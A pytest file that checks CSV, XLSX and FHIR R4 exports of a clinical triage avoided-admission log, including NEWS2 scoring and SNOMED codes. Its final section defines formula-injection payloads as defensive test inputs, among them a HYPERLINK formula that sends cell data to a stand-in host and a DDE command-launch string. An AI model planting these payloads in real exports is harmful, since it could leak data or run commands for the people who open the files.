"""Exports of the avoided-admission log (CSV, XLSX) and the FHIR R4 Bundle, read back."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from fhir.resources.R4B.bundle import Bundle
from openpyxl import load_workbook

from records import export
from records.avoided_log import EXPORT_FIELDS
from records.export import atomic_output
from records.schema import ObservationSet, TriageRecord
from tests.records.builders import make_record

T0 = datetime(2025, 1, 6, 9, 0, tzinfo=UTC)
SNOMED = "http://snomed.info/sct"


def signed(n: int, **changes: Any) -> TriageRecord:
    return make_record(**{
        "call_id": f"call-{n}", "requested_at": T0 + timedelta(hours=n),
        "status": "signed_off", "outcome": "advice_managed_in_place",
        "signed_off_at": T0 + timedelta(hours=n, minutes=30), "signed_off_by": "nurse-ann",
        **changes,
    })  # fmt: skip


def sample() -> list[TriageRecord]:
    return [
        signed(0),
        signed(1, observations=None, patient=None, specialist="dr-lee",
               presenting_problem='Fell, "no injury",\nwalking now'),
        signed(2, intended_action="ae", avoided={"ae_attendance": True, "admission": True,
                                                 "confirmed_by": "nurse-ann", "confirmed_at": T0}),
        signed(3, observations=ObservationSet(respiration_rate=16, spo2=None, consciousness="A")),
    ]


def test_csv_reads_back_as_the_records(tmp_path: Path) -> None:
    records = sample()
    text = "".join(export.csv_chunks(export.rows_of(records)))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(EXPORT_FIELDS)
    assert len(rows) == len(records)
    for row, record in zip(rows, records, strict=True):
        assert row["record_uuid"] == str(record.uuid)
        assert datetime.fromisoformat(row["requested_at"]) == record.requested_at
        assert row["presenting_problem"] == record.presenting_problem
        assert row["nhs_number"] == ("" if record.patient is None else "9000000009")
        if record.news2 is None:
            assert row["news2_total"] == row["news2_band"] == ""
        else:
            assert row["news2_total"] == str(record.news2.total)
            assert row["news2_complete"] == str(record.news2.complete).lower()
            for name, value in record.news2.subscores.items():
                assert row[f"news2_{name}"] == ("" if value is None else str(value))
    assert rows[2]["admission_avoided"] == "true" and rows[2]["gp_visit_avoided"] == "false"
    assert rows[2]["avoided_confirmed_by"] == "nurse-ann"
    assert rows[1]["specialist"] == "dr-lee"


def test_xlsx_reads_back_as_the_records(tmp_path: Path) -> None:
    records = sample()
    out = tmp_path / "log.xlsx"
    with open(out, "wb") as handle:
        export.write_xlsx(export.rows_of(records), handle)
    # A read-only workbook keeps the file open until closed; left to the GC it warns (unraisable).
    with closing(load_workbook(out, read_only=True)) as book:
        values = list(book.active.iter_rows(values_only=True))
    header = values[0]
    assert header[0] == "record_uuid" and "requested_at (UTC)" in header
    assert len(values) == len(records) + 1
    for row, record in zip(values[1:], records, strict=True):
        got = dict(zip(EXPORT_FIELDS, row, strict=True))
        assert got["record_uuid"] == str(record.uuid)
        assert got["requested_at"] == record.requested_at.replace(tzinfo=None)  # type: ignore[union-attr]
        assert got["admission_avoided"] is record.avoided.admission
        assert got["news2_total"] == (None if record.news2 is None else record.news2.total)


def observations_of(bundle: dict[str, Any], code: str) -> list[dict[str, Any]]:
    found = []
    for entry in bundle["entry"]:
        resource = entry["resource"]
        codings = resource.get("code", {}).get("coding", [])
        if resource["resourceType"] == "Observation" and any(c["code"] == code for c in codings):
            found.append(resource)
    return found


def test_fhir_bundle_validates_with_r4b_and_carries_the_reference_codes() -> None:
    records = sample()
    text = "".join(export.fhir_chunks(records))
    parsed = Bundle.model_validate_json(text)  # R4B: structure and cardinality
    assert parsed.type == "collection"
    bundle = json.loads(text)
    kinds = [e["resource"]["resourceType"] for e in bundle["entry"]]
    assert kinds.count("Encounter") == 4
    # make_record gives each record its own patient id; a patient appears once per id.
    assert kinds.count("Patient") == 3
    urls = [e["fullUrl"] for e in bundle["entry"]]
    assert len(urls) == len(set(urls))
    encounter = bundle["entry"][1]["resource"]
    assert encounter["class"] == {"system": "http://terminology.hl7.org/CodeSystem/v3-ActCode",
                                  "code": "VR", "display": "virtual"}  # fmt: skip
    assert encounter["type"][0]["coding"] == [{"system": SNOMED, "code": "307321000000107"}]
    totals = observations_of(bundle, "1104051000000101")
    complete = [r for r in records if r.news2 is not None and r.news2.complete]
    assert [t["valueInteger"] for t in totals] == [r.news2.total for r in complete]  # type: ignore[union-attr]
    # The partial record (SpO2 missing) has sub-scores but never a total.
    partial = records[3]
    partial_obs = [e["resource"] for e in bundle["entry"]
                   if e["resource"].get("encounter", {}).get("reference")
                   == f"urn:uuid:{partial.uuid}"]  # fmt: skip
    assert partial_obs and all(o["code"]["coding"][0]["code"] != "1104051000000101"
                               for o in partial_obs if "coding" in o["code"])  # fmt: skip
    acvpu = observations_of(bundle, "1104441000000107")
    assert [a["valueCodeableConcept"]["coding"][0]["code"] for a in acvpu] == [
        "130987000", "130987000", "248234008"]  # C, C, A  # fmt: skip
    for code in ("1104301000000104", "1104311000000102", "1104331000000105", "1104341000000101",
                 "1104351000000103", "1104361000000100", "1104371000000107"):
        assert observations_of(bundle, code), code


def test_the_uk_core_known_wrong_example_is_not_copied() -> None:
    """REFERENCE.md: temperature 37.5 scores 0 (UK Core's example says 1); the total is 5."""
    record = signed(0, observations=ObservationSet(
        respiration_rate=21, spo2=93, on_oxygen=False, systolic_bp=120, pulse=95,
        consciousness="A", temperature=37.5))  # fmt: skip
    bundle = json.loads("".join(export.fhir_chunks([record])))
    Bundle.model_validate(bundle)
    [temperature] = observations_of(bundle, "1104371000000107")
    [total] = observations_of(bundle, "1104051000000101")
    assert temperature["valueInteger"] == 0
    assert total["valueInteger"] == 5


def test_scale_2_spo2_gets_no_guessed_code() -> None:
    record = signed(0, observations=ObservationSet(
        respiration_rate=18, spo2=97, on_oxygen=True, systolic_bp=130, pulse=80,
        consciousness="A", temperature=37.0, scale=2))  # fmt: skip
    bundle = json.loads("".join(export.fhir_chunks([record])))
    Bundle.model_validate(bundle)
    spo2 = [e["resource"] for e in bundle["entry"]
            if e["resource"]["resourceType"] == "Observation"
            and "scale 2" in e["resource"]["code"]["text"]]  # fmt: skip
    assert len(spo2) == 1 and "coding" not in spo2[0]["code"]
    assert spo2[0]["valueInteger"] == 3  # ≥97 on oxygen, scale 2
    assert not observations_of(bundle, "1104311000000102")


def test_exports_stream_in_chunks_without_holding_every_record() -> None:
    made = 0

    def endless() -> Iterator[TriageRecord]:
        nonlocal made
        template = signed(0)
        for n in range(3 * export.CHUNK):
            made += 1
            yield template.model_copy(update={"call_id": f"call-{n}"})

    chunks = export.csv_chunks(export.rows_of(endless()))
    next(chunks)
    # The first chunk comes out after CHUNK rows, not after the whole input.
    assert made == export.CHUNK
    assert sum(1 for _ in chunks) >= 2


def test_a_failed_export_leaves_no_file(tmp_path: Path) -> None:
    out = tmp_path / "log.csv"
    with pytest.raises(RuntimeError), atomic_output(out) as handle:
        handle.write(b"half")
        raise RuntimeError("the hub went away")
    assert list(tmp_path.iterdir()) == []
    out.write_bytes(b"old")
    with pytest.raises(KeyboardInterrupt), atomic_output(out) as handle:
        handle.write(b"new, unfinished")
        raise KeyboardInterrupt
    assert out.read_bytes() == b"old" and list(tmp_path.iterdir()) == [out]
    with atomic_output(out) as handle:
        handle.write(b"complete")
    assert out.read_bytes() == b"complete"


def test_date_filter_takes_whole_utc_days() -> None:
    import sqlalchemy as sa

    from records.avoided_log import log_table

    table = log_table(sa.MetaData())
    start, end = export.date_filter(table, date(2025, 1, 6), date(2025, 1, 6))
    assert start.right.value == datetime(2025, 1, 6, tzinfo=UTC)
    assert end.right.value == datetime(2025, 1, 7, tzinfo=UTC)


def test_csv_from_the_database_is_the_csv_of_the_records(db_url: str) -> None:
    """The database path formats from the driver's raw values (SQLite text and 0/1,
    PostgreSQL native types); it must write exactly what format_value writes."""
    import sqlalchemy as sa

    from records.avoided_log import log_row, log_table
    from records.store import create_engine

    records = [*sample(), signed(4, answered_at=T0 + timedelta(hours=4, microseconds=123400),
                                 ended_at=T0 + timedelta(hours=5, microseconds=1))]  # fmt: skip
    table = log_table(sa.MetaData())
    engine = create_engine(db_url)
    try:
        table.metadata.create_all(engine)
        with engine.begin() as conn:
            conn.execute(sa.insert(table), [log_row(r) for r in records])
        with engine.connect() as conn:
            from_db = "".join(export.csv_chunks(export.log_rows(conn, None, None)))
            typed = list(export.log_rows(conn, None, None))
    finally:
        engine.dispose()
    assert from_db == "".join(export.csv_chunks(export.rows_of(records)))
    assert from_db.count("\r\n") == len(records) + 1 and ".123400Z" in from_db
    assert "".join(export.csv_chunks(iter(typed))) == from_db  # the typed rows agree too


# --- text that looks like a formula ---------------------------------------------------------

# OWASP's CSV-injection starts, each in a text column; and numbers, negative ones included.
HOSTILE = {
    "presenting_problem": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "specialist": "+cmd|' /C calc'!A0",
    "nurse": "-2+3",
    "signed_off_by": "@SUM(1+1)",
    "respect_plan": "\t=1+1",
    "call_id": "\r=1+1",
    "site_id": "-3",  # a text column: text, however much it looks like a number
}


def hostile_row() -> tuple[Any, ...]:
    """A typed log row (as the database gives it) with every hostile text, and -3 and -1.5
    in numeric columns (no record has them; the writers must still keep them numbers)."""
    [row] = export.rows_of([signed(0)])
    values = dict(zip(EXPORT_FIELDS, row, strict=True))
    values.update(HOSTILE, news2_total=-3, news2_pulse=-1.5)
    return tuple(values[name] for name in EXPORT_FIELDS)


def test_csv_text_that_looks_like_a_formula_cannot_run_and_numbers_stay_numbers() -> None:
    text = "".join(export.csv_chunks(iter([hostile_row()])))
    [row] = csv.DictReader(io.StringIO(text))
    for name, value in HOSTILE.items():
        assert row[name] == "'" + value, name  # an apostrophe first: text to a spreadsheet
    assert row["news2_total"] == "-3" and row["news2_pulse"] == "-1.5"
    assert row["setting"] == "care_home" and row["nurse"] != "-2+3"
    # No line of the file, and no field, begins with a formula character.
    fields = [f for r in csv.reader(io.StringIO(text)) for f in r]
    assert not [f for f in fields if f[:1] in export.FORMULA_STARTS and f not in ("-3", "-1.5")]


def test_xlsx_text_that_looks_like_a_formula_is_stored_as_text(tmp_path: Path) -> None:
    out = tmp_path / "log.xlsx"
    with out.open("wb") as handle:
        export.write_xlsx(iter([hostile_row()]), handle)
    book = load_workbook(out)  # not read-only: its cells have data types and styles
    sheet = book.active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    cells = {str(h).removesuffix(" (UTC)"): c for h, c in zip(header, sheet[2], strict=True)}
    for name, value in HOSTILE.items():
        cell = cells[name]
        # The text exactly as written, as a string (not a formula "f"), quote-prefixed so it
        # stays text when someone edits the cell.
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True), name
    assert (cells["news2_total"].value, cells["news2_total"].data_type) == (-3, "n")
    assert (cells["news2_pulse"].value, cells["news2_pulse"].data_type) == (-1.5, "n")
    assert not cells["setting"].quotePrefix
    assert not [c for c in sheet[2] if c.data_type == "f"]


def test_an_export_file_is_its_owners_alone(tmp_path: Path) -> None:
    out = tmp_path / "log.csv"
    before = os.umask(0o022)
    try:
        with atomic_output(out) as handle:
            handle.write(b"x")
    finally:
        os.umask(before)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
